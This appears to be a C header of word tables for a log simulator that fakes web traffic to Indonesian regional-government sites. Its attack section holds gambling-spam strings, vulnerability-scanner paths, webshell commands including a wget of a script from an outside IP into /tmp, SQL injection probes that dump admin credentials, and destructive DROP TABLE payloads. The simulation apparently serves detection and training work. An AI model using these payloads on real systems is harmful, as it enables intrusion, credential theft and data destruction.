/*
 * vocab.h — the words ronda-sim builds its log lines from: paths of
 * Indonesian regional-government sites, browser and crawler user agents,
 * client networks, and the attack payloads as they appear in real logs.
 *
 * Header-only tables, no code, included by the parts of sim/ that write
 * lines (an unused table costs nothing). Every table of strings is
 * NULL-terminated so vcount() can count it.
 */
#ifndef RONDA_SIM_VOCAB_H
#define RONDA_SIM_VOCAB_H

/* News and announcement slugs, as WordPress permalinks write them. */
static const char *const vocab_berita[] = {
	"bupati-resmikan-jembatan-penghubung-antar-desa",
	"wali-kota-pimpin-apel-kesiapsiagaan-bencana-banjir",
	"pelantikan-pejabat-administrator-dan-pengawas-tahun-2026",
	"penyaluran-bantuan-sosial-tahap-iv-tepat-sasaran",
	"sosialisasi-pajak-daerah-dan-retribusi-2026",
	"rapat-koordinasi-percepatan-penurunan-stunting",
	"musrenbang-kecamatan-serap-aspirasi-warga",
	"peringatan-hari-jadi-kota-ke-358",
	"pemkab-gelar-pasar-murah-jelang-natal-dan-tahun-baru",
	"vaksinasi-hpv-untuk-siswi-sekolah-dasar",
	"dinas-pupr-tinjau-perbaikan-jalan-poros",
	"festival-budaya-daerah-tarik-ribuan-pengunjung",
	"pemda-raih-opini-wtp-dari-bpk-ri",
	"pelatihan-umkm-digital-bagi-pelaku-usaha-lokal",
	"kunjungan-kerja-gubernur-kalimantan-timur",
	"penyerahan-sk-pppk-formasi-2025",
	"launching-mal-pelayanan-publik",
	"satgas-berantas-judi-online-di-lingkungan-asn",
	"kominfo-imbau-waspada-situs-palsu-mengatasnamakan-pemda",
	"program-beasiswa-kaltim-tuntas-dibuka",
	"gerakan-tanam-pohon-di-kawasan-ikn",
	"pengendalian-inflasi-daerah-jelang-akhir-tahun",
	"lomba-desa-tingkat-kabupaten-2026",
	"pembangunan-rsud-tahap-ii-capai-80-persen",
	"bahaya-judi-online-bagi-pelajar-dan-mahasiswa",
	NULL
};

static const char *const vocab_pengumuman[] = {
	"hasil-seleksi-administrasi-pppk-tahun-2026",
	"jadwal-pelayanan-adminduk-selama-libur-nasional",
	"seleksi-terbuka-jabatan-pimpinan-tinggi-pratama",
	"pengumuman-kelulusan-seleksi-kompetensi-dasar",
	"undian-berhadiah-pajak-kendaraan-bermotor",
	"penerimaan-tenaga-harian-lepas-puskesmas",
	"daftar-penerima-beasiswa-tahap-i",
	"perubahan-jam-kerja-asn-bulan-ramadan",
	NULL
};

static const char *const vocab_layanan[] = {
	"/layanan/", "/layanan/perizinan", "/layanan/adminduk",
	"/layanan/informasi-publik", "/layanan/kesehatan", "/layanan/pendidikan",
	"/layanan/booking-slot-antrian-online", "/layanan/pengaduan-masyarakat",
	"/ppid/", "/ppid/informasi-berkala", "/ppid/informasi-serta-merta",
	"/ppid/informasi-setiap-saat", "/ppid/permohonan-informasi", "/ppid/dip",
	"/profil/visi-misi", "/profil/struktur-organisasi", "/kontak",
	"/galeri/foto", "/agenda", "/download/", "/jdih/produk-hukum",
	NULL
};

/* What visitors type into the site search: ordinary, some of it tricky. */
static const char *const vocab_search[] = {
	"hasil+seleksi+cpns", "jadwal+samsat+keliling", "formulir+ppid",
	"lowongan+pppk+2026", "undian+berhadiah+pajak+kendaraan",
	"jadwal+slot+vaksin+booster", "bahaya+judi+online+bagi+pelajar",
	"booking+slot+antrian+paspor", "perda+retribusi", "struktur+organisasi",
	"beasiswa+kaltim+tuntas", "kartu+keluarga+online", "rsud", "stunting",
	NULL
};

/* Page assets a browser loads after the HTML (%04d: the sim's year). */
static const char *const vocab_assets[] = {
	"/wp-content/themes/pemda/style.css?ver=6.4.3",
	"/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
	"/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1",
	"/wp-content/themes/pemda/assets/js/main.js?ver=2.1",
	"/wp-content/plugins/elementor/assets/css/frontend.min.css?ver=3.18.3",
	"/wp-content/themes/pemda/assets/img/logo-pemda.png",
	"/wp-content/uploads/2026/10/foto-kegiatan-rapat-koordinasi.jpg",
	"/wp-content/uploads/2026/09/banner-hari-jadi.jpg",
	"/wp-content/uploads/2026/11/infografis-apbd.png",
	"/wp-includes/css/dist/block-library/style.min.css?ver=6.4.3",
	NULL
};

/* Links that no longer exist: the benign 404s every site has. */
static const char *const vocab_missing[] = {
	"/apple-touch-icon.png", "/apple-touch-icon-precomposed.png",
	"/berita/detail/1187", "/wp-content/uploads/2019/03/sk-bupati.pdf",
	"/index.php/berita/lama", "/ads.txt", "/.well-known/traffic-advice",
	"/favicon.png", "/wp-content/themes/pemda-lama/style.css",
	NULL
};

static const char *const vocab_pengaduan[] = {
	"/pengaduan/", "/pengaduan/form", "/pengaduan/kategori/infrastruktur",
	"/pengaduan/kategori/pelayanan-publik", "/pengaduan/statistik",
	"/pengaduan/tata-cara", "/pengaduan/faq",
	NULL
};

static const char *const vocab_ekinerja[] = {
	"/ekinerja/dashboard", "/ekinerja/skp/rencana", "/ekinerja/skp/realisasi",
	"/ekinerja/skp/penilaian", "/ekinerja/aktivitas/harian",
	"/ekinerja/aktivitas/tambah", "/ekinerja/laporan/bulanan",
	"/ekinerja/profil", "/ekinerja/api/notifikasi",
	NULL
};

static const char *const vocab_webmail[] = {
	"/webmail/?_task=mail&_mbox=INBOX", "/webmail/?_task=mail&_action=show&_uid=%u&_mbox=INBOX",
	"/webmail/?_task=mail&_action=refresh", "/webmail/?_task=addressbook",
	"/webmail/?_task=mail&_action=compose",
	NULL
};

static const char *const vocab_browser_ua[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
	"Mozilla/5.0 (Linux; Android 14; 23108RN04Y) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.6668.100 Mobile Safari/537.36",
	NULL
};

/*
 * Who owns the ranges the background comes from (geo.tsv): the simulated
 * world's registry, plausible rather than looked up.
 */
struct vocab_as {
	unsigned asn;
	const char *org;
	const char *country;	/* ISO 3166 alpha-2 */
};

enum { AS_TELKOM, AS_INDOSAT, AS_TELKOMSEL, AS_BIZNET, AS_XL, AS_GOOGLE, AS_MICROSOFT,
	AS_OVH, AS_SEMRUSH, AS_META, AS_CENSYS, AS_HE, AS_GCP };

static const struct vocab_as vocab_as[] = {
	[AS_TELKOM] = { 7713, "PT Telekomunikasi Indonesia", "ID" },
	[AS_INDOSAT] = { 4761, "INDOSAT Internet Network Provider", "ID" },
	[AS_TELKOMSEL] = { 23693, "PT. Telekomunikasi Selular", "ID" },
	[AS_BIZNET] = { 17451, "BIZNET NETWORKS", "ID" },
	[AS_XL] = { 24203, "PT XL Axiata", "ID" },
	[AS_GOOGLE] = { 15169, "GOOGLE", "US" },
	[AS_MICROSOFT] = { 8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "US" },
	[AS_OVH] = { 16276, "OVH SAS", "FR" },
	[AS_SEMRUSH] = { 209366, "SEMrush CY LTD", "CY" },
	[AS_META] = { 32934, "FACEBOOK", "US" },
	[AS_CENSYS] = { 398324, "CENSYS-ARIN-01", "US" },
	[AS_HE] = { 6939, "HURRICANE", "US" },
	[AS_GCP] = { 396982, "GOOGLE-CLOUD-PLATFORM", "US" },
};

struct vocab_crawler {
	const char *ua;
	unsigned a, b, c;	/* the crawler's /24: a.b.c.0 */
	unsigned as;		/* its owner in vocab_as[] */
};

static const struct vocab_crawler vocab_crawlers[] = {
	{ "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 66, 249, 66, AS_GOOGLE },
	{ "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 66, 249, 68, AS_GOOGLE },
	{ "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", 40, 77, 167, AS_MICROSOFT },
	{ "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 54, 36, 148, AS_OVH },
	{ "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 185, 191, 171, AS_SEMRUSH },
	{ "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 173, 252, 83, AS_META },
	{ NULL, 0, 0, 0, 0 }
};

/* Stray Internet SSH probes: hosting and research scanners seen everywhere. */
static const unsigned vocab_ssh_noise[][4] = {
	{ 167, 94, 138, AS_CENSYS }, { 162, 142, 125, AS_CENSYS }, { 64, 62, 197, AS_HE },
	{ 147, 185, 132, AS_GCP }, { 206, 168, 34, AS_CENSYS },
};
#define VOCAB_NSSH_NOISE (sizeof(vocab_ssh_noise) / sizeof(vocab_ssh_noise[0]))

/* Indonesian access networks (/16s) the citizens browse from, and their AS. */
static const unsigned vocab_isp16[][3] = {
	{ 36, 68, AS_TELKOM }, { 36, 69, AS_TELKOM }, { 36, 72, AS_TELKOM },
	{ 36, 73, AS_TELKOM }, { 36, 79, AS_TELKOM }, { 36, 81, AS_TELKOM },
	{ 36, 85, AS_TELKOM }, { 110, 136, AS_TELKOM }, { 110, 137, AS_TELKOM },
	{ 114, 4, AS_INDOSAT }, { 114, 122, AS_BIZNET }, { 114, 125, AS_TELKOM },
	{ 180, 241, AS_INDOSAT }, { 180, 242, AS_INDOSAT }, { 180, 248, AS_TELKOM },
	{ 180, 251, AS_TELKOM }, { 182, 1, AS_TELKOMSEL }, { 182, 2, AS_TELKOMSEL },
	{ 112, 215, AS_TELKOMSEL }, { 120, 188, AS_XL }, { 139, 194, AS_TELKOMSEL },
	{ 140, 213, AS_TELKOMSEL }, { 125, 160, AS_TELKOM }, { 125, 166, AS_TELKOM },
};
#define VOCAB_NISP16 (sizeof(vocab_isp16) / sizeof(vocab_isp16[0]))

/* ---- attacks ---------------------------------------------------------- */

/* Phrases of judi online spam (search and injected page slugs). */
static const char *const vocab_judol_search[] = {
	"slot+gacor+maxwin", "slot+gacor+hari+ini", "situs+slot+online+terpercaya",
	"togel+hari+ini+hk", "link+alternatif+slot88", "rtp+live+slot+gacor",
	"bocoran+slot+gacor+malam+ini", "daftar+situs+judi+slot", "mahjong+ways+2+scatter+hitam",
	"slot+thailand+super+gacor", "bandar+togel+online+resmi", "pragmatic+play+maxwin",
	NULL
};

static const char *const vocab_judol_page[] = {
	"slot-gacor-maxwin-hari-ini", "situs-slot-online-terpercaya", "togel-hari-ini",
	"link-alternatif-slot88", "rtp-live-slot-gacor", "slot-thailand-super-gacor",
	"bocoran-rtp-slot-malam-ini", "daftar-situs-judi-slot-online",
	NULL
};

static const char *const vocab_judol_domain[] = {
	"https://maxwin-gacor88.vip/", "https://slot88-resmi.click/daftar",
	"https://rtp-live-gacor.site/", "https://situs-togel4d.pro/link-alternatif",
	NULL
};

/* Officials' mail accounts (local parts) a webmail guesser tries. */
static const char *const vocab_officials[] = {
	"budi.santoso", "sri.wahyuni", "agus.setiawan", "dewi.lestari", "ahmad.fauzi",
	"siti.rahmawati", "andi.pratama", "rina.marlina", "hendra.gunawan", "yuliana.sari",
	"muhammad.rizal", "nur.aisyah", "bambang.sutrisno", "eko.prasetyo", "wahyu.hidayat",
	"sekretariat", "kepegawaian", "umum", "keuangan", "ppid", "humas", "admin", "kadis",
	"diskominfo", "bappeda", "info",
	NULL
};

/* Accounts botnets try over SSH, most common first. */
static const char *const vocab_ssh_users[] = {
	"root", "root", "root", "admin", "ubuntu", "test", "user", "oracle", "postgres",
	"git", "ftpuser", "deploy", "guest", "pi", "support", "www", "mysql", "hadoop",
	"administrator", "operator", "dev", "jenkins", "minecraft", "sysadmin",
	NULL
};

/* Paths a vulnerability scanner sweeps (nuclei templates and the like). */
static const char *const vocab_scan_paths[] = {
	"/.env", "/.git/config", "/.git/HEAD", "/wp-config.php.bak", "/wp-config.php~",
	"/phpmyadmin/", "/pma/", "/adminer.php", "/server-status", "/backup.zip",
	"/backup.sql", "/db.sql", "/.DS_Store", "/config.json", "/.aws/credentials",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?author=1",
	"/wp-json/wp/v2/users", "/actuator/env", "/_ignition/execute-solution",
	"/.svn/entries", "/info.php", "/phpinfo.php", "/storage/logs/laravel.log",
	"/wp-content/debug.log", "/admin/", "/administrator/", "/login", "/cgi-bin/",
	"/.htaccess", "/web.config", "/composer.json", "/.vscode/sftp.json",
	"/wp-admin/setup-config.php", "/kcfinder/browse.php", "/elfinder/elfinder.html",
	"/index.php?page=../../../../etc/passwd", "/?s=%3Cscript%3Ealert(1)%3C/script%3E",
	NULL
};

static const char *const vocab_scan_ua[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	NULL
};

/* Commands typed into a webshell after it is planted. */
static const char *const vocab_shell_cmds[] = {
	"id", "uname+-a", "whoami", "pwd", "ls+-la", "cat+/etc/passwd",
	"cat+../wp-config.php", "ps+aux", "wget+http://45.135.232.19/b.sh+-O+/tmp/.x",
	"df+-h", "netstat+-tulpn", "find+/var/www+-name+*.php+-writable",
	NULL
};

/* sqlmap's requests against one parameter, as it URL-encodes them. */
static const char *const vocab_sqli_probe[] = {
	"%u",
	"%u%27",
	"%u%20AND%20%d%3D%d",
	"%u%27%20AND%20%d%3D%d%20AND%20%27xYzq%27%3D%27xYzq",
	"%u%20AND%20SLEEP%285%29",
	"%u%27%20AND%20%28SELECT%20%d%20FROM%20%28SELECT%28SLEEP%285%29%29%29bAKL%29--%20qWer",
	"%u%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
	"%u%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x716a6b7071%2C0x%d%2C0x71767a6b71%29%2CNULL--%20-",
	"-%u%20UNION%20ALL%20SELECT%20NULL%2Cgroup_concat%28table_name%29%2CNULL%20FROM%20information_schema.tables%20WHERE%20table_schema%3Ddatabase%28%29--%20-",
	"-%u%20UNION%20ALL%20SELECT%20NULL%2Cgroup_concat%28username%2C0x3a%2Cpassword%29%2CNULL%20FROM%20tb_admin--%20-",
	NULL
};

static const char *const vocab_sqli_destroy[] = {
	"%u%3BDROP%20TABLE%20tb_pengaduan--%20",
	"%u%3BDELETE%20FROM%20tb_pengaduan%20WHERE%201%3D1--%20",
	"%u%3BDROP%20TABLE%20tb_admin--%20",
	"%u%3BTRUNCATE%20TABLE%20tb_tindak_lanjut--%20",
	NULL
};

static const char *const vocab_deface_teams[] = {
	"garuda-cyber-team", "anonsec-id", "xleet-crew", "kaltim-hacker-army",
	NULL
};

#endif
